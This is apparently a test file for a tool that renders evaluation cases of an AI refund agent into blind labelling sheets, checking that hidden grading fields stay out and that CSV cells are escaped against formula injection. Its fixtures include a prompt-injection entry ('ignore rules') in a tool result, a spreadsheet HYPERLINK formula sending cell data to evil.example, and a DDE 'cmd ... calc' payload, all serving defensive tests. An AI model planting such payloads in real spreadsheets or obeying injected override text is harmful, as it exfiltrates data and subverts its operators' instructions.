from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from casework.dataset.tools import ToolDecl
from casework.labelling.sheets import read_sheet, render_csv, render_jsonl, sheet_line
from casework.schema import Case
from tests.factories import case_dict

TOOLS = {
    "get_order": ToolDecl("get_order", "Fetch an order."),
    "issue_refund": ToolDecl("issue_refund", "Refund an order."),
}


def secret_case() -> Case:
    data = case_dict("c-1")
    data["satisfiable"] = False
    data["label"] = {
        "outcome": "refuse",
        "forbidden_tools": ["issue_refund"],
        "guideline_version": "refunds-g6",
    }
    data["provenance"] = {
        "unsatisfiable_kind": "outside_policy",
        "reviewer": "rev-9",
        "shape": "late-refund",
    }
    data["oracle"] = {"class": "rubric_judge", "rubric": "SECRET-RUBRIC"}
    data["situation"]["fixtures"] = [{"tool": "get_order", "response": {"age_days": 45}}]
    data["situation"]["injected"] = [
        {"kind": "prompt_injection", "location": "tool:get_order", "text": "ignore rules"}
    ]
    data["situation"]["turns"].append(
        {
            "role": "assistant",
            "content": "",
            "tool_calls": [
                {"name": "get_order", "arguments": {"order_id": "1"}, "result": {"ok": True}}
            ],
        }
    )
    return Case.model_validate(data)


def test_blind_line_holds_the_situation_and_nothing_else() -> None:
    line = sheet_line("label", "refunds", "lab-14", secret_case(), "refunds-g7", TOOLS)
    assert list(line) == [
        "schema_version",
        "sheet",
        "dataset",
        "labeller",
        "case_id",
        "slice",
        "guideline_version",
        "situation",
        "tools",
        "outcome",
        "required",
        "forbidden",
        "answer_facts",
        "signature",
    ]
    assert set(line["situation"]) == {"goal", "turns", "fixtures", "injected"}
    text = json.dumps(line)
    for secret in (
        "refunds-g6",
        "outside_policy",
        "rev-9",
        "late-refund",
        "SECRET-RUBRIC",
        "satisfiable",
        "provenance",
        "oracle",
        "split",
        "hand",
    ):
        assert secret not in text
    assert line["required"] == {"get_order": None, "issue_refund": None}


def test_csv_sheet_is_blind_and_readable(tmp_path: Path) -> None:
    line = sheet_line("label", "refunds", "lab-14", secret_case(), "refunds-g7", TOOLS)
    data = render_csv([line], "label", list(TOOLS)).decode()
    header = data.splitlines()[0].split(",")
    assert header == [
        "sheet",
        "dataset",
        "labeller",
        "case_id",
        "slice",
        "guideline_version",
        "goal",
        "conversation",
        "fixtures",
        "state",
        "injected",
        "sent_back_by",
        "outcome",
        "required:get_order",
        "required:issue_refund",
        "forbidden:get_order",
        "forbidden:issue_refund",
        "answer_facts",
        "signature",
    ]
    assert 'assistant:\n  -> get_order({""order_id"": ""1""}) => {""ok"": true}' in data
    for secret in ("refunds-g6", "outside_policy", "rev-9", "SECRET-RUBRIC"):
        assert secret not in data


def test_read_back_jsonl_and_csv(tmp_path: Path) -> None:
    line = sheet_line("label", "refunds", "lab-14", secret_case(), "refunds-g7", TOOLS)
    jsonl = tmp_path / "s.jsonl"
    answered = {
        **line,
        "outcome": "refuse",
        "forbidden": {"issue_refund": "YES", "get_order": None},
    }
    jsonl.write_bytes(render_jsonl([answered, line]))
    entries, problems = read_sheet(jsonl, "s.jsonl")
    assert problems == []
    assert [e.answer.answered() for e in entries] == [True, False]
    assert entries[0].answer.forbidden == {"issue_refund": True, "get_order": None}
    csv_path = tmp_path / "s.csv"
    text = render_csv([line], "label", list(TOOLS)).decode()
    head, row = text.split("\n", 1)
    cells = row.rstrip("\n")
    csv_path.write_text(
        head + "\n" + cells[: -len(",,,,,,")] + 'refuse,,,,yes,"Cannot refund\nafter 30 days",\n'
    )
    entries, problems = read_sheet(csv_path, "s.csv")
    assert problems == []
    assert entries[0].line == 2
    answer = entries[0].answer
    assert (answer.outcome, answer.forbidden, answer.facts()) == (
        "refuse",
        {"get_order": None, "issue_refund": True},
        ["Cannot refund", "after 30 days"],
    )


def test_syntax_problems_are_located(tmp_path: Path) -> None:
    bad = tmp_path / "bad.jsonl"
    line = sheet_line("label", "refunds", "lab-14", secret_case(), "refunds-g7", TOOLS)
    bad.write_text(
        "{not json\n"
        + json.dumps({**line, "outcome": "resolved"})
        + "\n"
        + json.dumps({**line, "required": {"get_order": "maybe"}})
        + "\n"
        + json.dumps({**line, "notes": "x"})
        + "\n"
    )
    _, problems = read_sheet(bad, "bad.jsonl")
    assert [str(p) for p in problems] == [
        "bad.jsonl:1: invalid JSON: Expecting property name enclosed in double quotes at column 2. Got '{not json'.",
        "bad.jsonl:2: outcome: Input should be 'resolve', 'clarify', 'refuse' or 'escalate'. Got 'resolved'.",
        "bad.jsonl:3: required.get_order: answer yes or no (or leave empty for no). Got 'maybe'.",
        "bad.jsonl:4: notes: unknown field. Got 'x'.",
    ]
    csv_bad = tmp_path / "bad.csv"
    csv_bad.write_text(
        "sheet,dataset,labeller,case_id,guideline_version,outcome,required:get_order,comment\n"
    )
    _, problems = read_sheet(csv_bad, "bad.csv")
    assert [str(p) for p in problems] == ["bad.csv:1: comment: unknown column. Got 'comment'."]
    csv_cell = tmp_path / "cell.csv"
    csv_cell.write_text(
        "sheet,dataset,labeller,case_id,guideline_version,outcome,required:get_order\n"
        "label,refunds,lab-14,c-1,refunds-g7,resolve,perhaps\n"
        "label,refunds,lab-14,c-1,refunds-g7\n"
    )
    _, problems = read_sheet(csv_cell, "cell.csv")
    assert [str(p) for p in problems] == [
        "cell.csv:2: required:get_order: answer yes or no (or leave empty for no). Got 'perhaps'.",
        "cell.csv:3: row has 5 cells but the header has 7.",
    ]
    latin = tmp_path / "latin.csv"
    latin.write_bytes(b"sheet,outcome\nlabel,r\xe9solve\n")
    _, problems = read_sheet(latin, "latin.csv")
    assert [str(p) for p in problems] == [
        "latin.csv:2: invalid UTF-8 at column 8; save the sheet as UTF-8."
    ]
    _, problems = read_sheet(tmp_path / "sheet.xlsx", "sheet.xlsx")
    assert [str(p) for p in problems] == ["sheet.xlsx: file not found."]


@settings(max_examples=40, deadline=None)
@given(
    facts=st.lists(
        st.text(
            alphabet=st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=20
        ).filter(lambda s: s.strip() == s and s),
        max_size=4,
    ),
    outcome=st.sampled_from(["resolve", "clarify", "refuse", "escalate"]),
    required=st.sets(st.sampled_from(sorted(TOOLS))),
)
def test_csv_round_trip(facts: list[str], outcome: str, required: set[str]) -> None:
    import csv
    import io
    import tempfile

    line = sheet_line("label", "refunds", "lab-14", secret_case(), "refunds-g7", TOOLS)
    rows = list(csv.reader(io.StringIO(render_csv([line], "label", list(TOOLS)).decode())))
    header = rows[0]
    rows[1][header.index("outcome")] = outcome
    for tool in required:
        rows[1][header.index(f"required:{tool}")] = "yes"
    rows[1][header.index("answer_facts")] = "\n".join(facts)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "s.csv"
        with path.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(rows)
        entries, problems = read_sheet(path, "s.csv")
    assert problems == []
    answer = entries[0].answer
    assert answer.outcome == outcome
    assert {t for t, yes in answer.required.items() if yes} == required
    assert answer.facts() == facts


_TRIGGERS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", ""])
_FORMULAS = st.sampled_from(
    ['HYPERLINK("http://evil.example/?d="&A1,"open")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]
)
_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)


@st.composite
def _hostile(draw: st.DrawFn) -> str:
    return draw(_TRIGGERS) + draw(st.one_of(_FORMULAS, _TEXT))


@settings(max_examples=60, deadline=None)
@given(goal=_hostile(), said=_hostile(), state_key=_hostile())
def test_csv_cells_never_start_a_formula_and_read_back_exactly(
    tmp_path_factory: pytest.TempPathFactory, goal: str, said: str, state_key: str
) -> None:
    data = case_dict("c-1")
    data["situation"]["goal"] = goal
    data["situation"]["turns"] = [{"role": "user", "content": said}]
    data["situation"]["state"] = {state_key: said}
    case = Case.model_validate(data)
    line = sheet_line("label", "refunds", "lab-14", case, "refunds-g7", TOOLS)
    rendered = render_csv([line], "label", list(TOOLS)).decode()
    header, *rows = list(csv.reader(io.StringIO(rendered, newline="")))
    for cell in rows[0]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    rows[0][header.index("outcome")] = "resolve"  # the labeller answers
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])  # as a spreadsheet saves it: CRLF, quoted
    path = tmp_path_factory.mktemp("sheet") / "s.csv"
    path.write_bytes(out.getvalue().encode("utf-8"))
    entries, problems = read_sheet(path, "s.csv")
    assert problems == []
    answer = entries[0].answer
    assert answer.goal == case.situation.goal
    assert json.loads(answer.state) == case.situation.state
    assert answer.conversation == f"user: {said}".rstrip()


def test_escape_cell_round_trips_apostrophes() -> None:
    from casework.labelling.sheets import escape_cell, unescape_cell

    for text in ["'", "''", "'=1", "=1", "@x", "-", "plain", "", "\tx", "\rx", "+1 555"]:
        assert unescape_cell(escape_cell(text)) == text
    assert escape_cell("=1") == "'=1"
    assert escape_cell("'x") == "''x"
